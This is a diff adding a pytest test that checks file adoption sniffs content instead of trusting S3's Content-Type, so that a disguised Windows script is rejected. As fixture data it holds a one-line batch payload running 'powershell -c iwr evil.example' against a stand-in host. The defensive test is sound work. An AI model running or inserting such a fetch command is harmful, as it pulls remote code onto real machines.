@@ -172,3 +172,30 @@ def test_reconcile_settles_stuck_uploads(runtime: Runtime, record: FileRecord) -
     assert find_orphans(runtime) == []
     with pytest.raises(InputError, match="already has a record"):
         adopt(runtime, "stray/thing.pdf")
+
+
+def test_adopt_reads_the_bytes_not_s3s_content_type(runtime: Runtime) -> None:
+    # the guide recorded whatever Content-Type the uploader gave S3
+    from tests.core.files.conftest import png_bytes
+
+    runtime.settings = runtime.settings.model_copy(update={"depllc_role": "admin"})
+    s3, bucket = runtime.aws.s3, runtime.settings.aws_s3_bucket
+    s3.put_object(Bucket=bucket, Key="stray/photo.png", Body=png_bytes(), ContentType="text/html")
+    assert adopt(runtime, "stray/photo.png").contentType == "image/png"
+    doc = runtime.store.files.find_one({"key": "stray/photo.png"})
+    assert doc and doc["contentType"] == "image/png"
+    script = b"@echo off\r\npowershell -c iwr evil.example\r\n"
+    s3.put_object(
+        Bucket=bucket, Key="stray/invoice.pdf", Body=script, ContentType="application/pdf"
+    )
+    with pytest.raises(InputError) as info:
+        adopt(runtime, "stray/invoice.pdf")
+    assert str(info.value) == (
+        "stray/invoice.pdf not adopted: invoice.pdf: the name says application/pdf but the "
+        "content is text/plain. The object stays in the bucket; remove it if it does not "
+        "belong there."
+    )
+    s3.put_object(Bucket=bucket, Key="stray/run.bat", Body=script, ContentType="text/plain")
+    with pytest.raises(InputError, match=r"\.bat files \(a Windows program or script\)"):
+        adopt(runtime, "stray/run.bat")
+    assert runtime.store.files.count_documents({}) == 1
